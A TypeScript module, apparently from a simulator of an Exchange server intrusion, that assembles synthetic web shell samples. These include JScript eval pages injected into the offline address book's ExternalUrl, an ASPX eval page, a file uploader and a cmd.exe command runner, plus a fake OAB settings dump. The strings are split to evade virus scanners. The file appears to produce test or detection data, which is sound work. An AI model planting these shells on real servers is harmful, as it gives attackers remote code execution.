// The smallest texts that show the traits of the intruders' pages. They are put together from pieces when they are
// needed, so that no virus scanner takes a checkout for the real thing.

import { shellTime } from './calendar.ts';
import { ALPHANUMERIC, LOWER, type Random } from './random.ts';
import type { Server, World } from './world.ts';

const join = (...pieces: readonly string[]): string => pieces.join('');

const OPEN = (language: string): string =>
  join('<scr', 'ipt lang', `uage="${language}" run`, 'at="ser', 'ver">');
const OPEN_TURNED = (language: string): string =>
  join('<scr', `ipt run`, 'at="ser', `ver" lang`, `uage="${language}">`);
const CLOSE = join('</scr', 'ipt>');
const EVALUATE = join('ev', 'al(');
const ASK = (part: string, key: string): string => join('Req', 'uest', part, `["${key}"]`);
const LOAD = join('Page', '_Load');
const FREE = join('"un', 'safe"');

/** Evaluates what a parameter holds. */
function evaluator(random: Random, key: string): string {
  const word = random.text(LOWER, random.between(1, 6));
  const part = random.pick(['', '.Item', '.Form']);
  const forms = [
    join(OPEN('JScript'), `function ${LOAD}(){`, EVALUATE, ASK(part, key), ',', FREE, ');}', CLOSE),
    join(
      OPEN('JScript'),
      `function ${LOAD}(){var ${word}="un"+"safe";`,
      EVALUATE,
      ASK(part, key),
      `,${word});}`,
      CLOSE,
    ),
    join(
      OPEN_TURNED('JScript'),
      `function ${word}0(){`,
      EVALUATE,
      ASK(part, key),
      ',',
      FREE,
      `);}function ${LOAD}(){${word}0();}`,
      CLOSE,
    ),
  ];
  return random.pick(forms);
}

/** The script that an intruder puts into the address book's outside address. */
export function scriptFor(random: Random): string {
  return evaluator(random, random.text(ALPHANUMERIC, random.between(1, 10)));
}

/** What stands before the script to make it an address. */
export function urlPrefix(random: Random): string {
  const word = random.text(LOWER, random.between(1, 5));
  return `${random.pick(['http', 'https'])}://${word}/${random.chance(0.4) ? '#' : ''}`;
}

/** A page of one line, or one that saves what it is sent. */
export function ownPage(random: Random): {
  readonly text: string;
  readonly family: 'evaluator' | 'uploader';
} {
  const key = random.text(ALPHANUMERIC, random.between(3, 9));
  if (random.chance(0.5)) {
    const text = join(
      '<%@ Page Lang',
      'uage="JSc',
      'ript"%><%',
      EVALUATE,
      ASK('.Item', key),
      ',',
      FREE,
      ');%>',
    );
    return { text, family: 'evaluator' };
  }
  const save = join('Req', 'uest.Files[0].Sa', `veAs(Server.Map`, `Path(`, ASK('', key), '));');
  return {
    text: join('<%@ Page Lang', 'uage="C#"%><%if(Req', 'uest.Files.Count>0)', save, '%>'),
    family: 'uploader',
  };
}

/** A line that starts what it is told, for a page written in C#. */
export function commandLine(random: Random): string {
  const key = random.text(ALPHANUMERIC, random.between(3, 9));
  const ask = ASK('', key);
  return join(
    '<%if(',
    ask,
    '!=null)System.Diag',
    'nostics.Proc',
    'ess.Start("cm',
    'd.exe","/c "+',
    ask,
    ');%>',
  );
}

/** What the reset of the address book's directory writes to the path it is given: the directory's settings. */
export function settingsDump(
  world: World,
  server: Server,
  given: { readonly externalUrl: string; readonly guid: string; readonly changed: number },
): string {
  const distinguished = `CN=OAB (Default Web Site),CN=HTTP,CN=Protocols,CN=${server.host},CN=Servers`;
  const rows: readonly (readonly [name: string, value: string])[] = [
    ['Name', 'OAB (Default Web Site)'],
    ['PollInterval', '480'],
    ['OfflineAddressBooks', '\\Default Offline Address Book'],
    ['RequireSSL', 'True'],
    ['BasicAuthentication', 'False'],
    ['WindowsAuthentication', 'True'],
    ['OAuthAuthentication', 'True'],
    ['MetabasePath', `IIS://${server.fqdn}/W3SVC/1/ROOT/OAB`],
    ['Path', 'C:\\Program Files\\Microsoft\\Exchange Server\\V15\\FrontEnd\\HttpProxy\\OAB'],
    ['Server', server.host],
    ['InternalUrl', `https://${server.fqdn}/OAB`],
    ['InternalAuthenticationMethods', 'WindowsIntegrated, OAuth'],
    ['ExternalUrl', given.externalUrl],
    ['ExternalAuthenticationMethods', 'WindowsIntegrated, OAuth'],
    ['AdminDisplayName', ''],
    ['ExchangeVersion', '0.10 (14.0.100.0)'],
    ['DistinguishedName', `${distinguished},DC=${world.adDomain.split('.').join(',DC=')}`],
    ['Identity', `${server.host}\\OAB (Default Web Site)`],
    ['Guid', given.guid],
    ['ObjectClass', 'top msExchVirtualDirectory msExchOABVirtualDirectory'],
    ['WhenChanged', shellTime(given.changed + world.zone * 3_600_000)],
    ['WhenChangedUTC', shellTime(given.changed)],
    ['OriginatingServer', `${world.controller}.${world.adDomain}`],
    ['IsValid', 'True'],
  ];
  const width = 32;
  return `\r\n${rows.map(([name, value]) => `${name.padEnd(width)}: ${value}`).join('\r\n')}\r\n\r\n`;
}
